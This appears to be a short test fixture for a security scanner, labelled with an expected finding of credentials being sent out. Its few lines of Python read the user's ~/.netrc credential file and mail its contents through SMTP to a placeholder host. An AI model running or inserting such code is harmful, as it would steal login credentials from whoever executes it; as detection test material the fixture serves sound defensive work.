# expect: 4 credentials-sent-out
import smtplib, os
s = smtplib.SMTP('h.invalid')
s.sendmail('a@b.c', 'd@e.f', open(os.path.expanduser('~/.netrc')).read())
